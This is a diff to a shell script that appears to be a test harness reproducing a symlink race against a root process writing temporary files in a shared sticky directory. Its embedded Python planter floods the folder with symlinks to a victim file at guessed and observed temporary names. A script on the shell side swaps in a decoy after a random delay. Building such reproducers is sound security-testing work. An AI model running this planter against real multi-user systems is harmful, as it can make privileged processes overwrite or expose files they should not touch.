@@ -39,25 +39,34 @@ chmod 644 "$work/victim"
 
 # --- 1. planted links ------------------------------------------------------
 cat > "$work/planter.py" <<'PY'
-import os, sys, time, random, string
+import os, sys, random, string
 shared, victim, stop = sys.argv[1], sys.argv[2], sys.argv[3]
 letters = string.ascii_lowercase + string.digits
-seen = set()
-while not os.path.exists(stop):
-    names = ["t.bin.bak.partial"] + ["t.bin.bak.tessel-%s.tmp" % "".join(random.choice(letters) for _ in range(6))
-                                     for _ in range(8)]
+old = os.path.join(shared, "t.bin.bak.partial")
+n = 0
+while True:
+    # The old temporary's name, as fast as the loop goes: root deletes it
+    # and creates it again a few system calls later.
     try:
-        names += [n for n in os.listdir(shared) if n.endswith(".tmp") or n.endswith(".partial")]
+        os.symlink(victim, old)
     except OSError:
         pass
-    for n in names:
-        p = os.path.join(shared, n)
+    n += 1
+    if n % 256:
+        continue
+    if os.path.exists(stop):
+        break
+    # Now and then: guesses at the new names, and every temporary in sight.
+    names = ["t.bin.bak.tessel-%s.tmp" % "".join(random.choice(letters) for _ in range(6)) for _ in range(8)]
+    try:
+        names += [f for f in os.listdir(shared) if f.endswith(".tmp")]
+    except OSError:
+        pass
+    for f in names:
+        p = os.path.join(shared, f)
         try:
-            if os.path.exists(p) and not os.path.islink(p):
+            if os.path.lexists(p) and not os.path.islink(p):
                 os.unlink(p)          # refused in a sticky folder for root's files
-        except OSError:
-            pass
-        try:
             os.symlink(victim, p)
         except OSError:
             pass
@@ -95,7 +104,7 @@ for i in $(seq "$tries"); do
     rm -f "$shared"/t.bin* "$shared/decoy"
     cp "$work/original" "$shared/t.bin"; cp "$work/other" "$shared/decoy"
     ln "$shared/t.bin" "$work/checked"
-    delay=$(awk -v r=$RANDOM -v t="$runms" 'BEGIN { printf "%.4f", r / 32768 * t / 1000 }')
+    delay=$(awk -v r=$RANDOM -v t="$runms" 'BEGIN { printf "%.4f", r / 32768 * t / 2000 }')
 
     (sleep "$delay"; mv "$shared/decoy" "$shared/t.bin"; date +%s%N > "$work/swapped") &
     swapper=$!
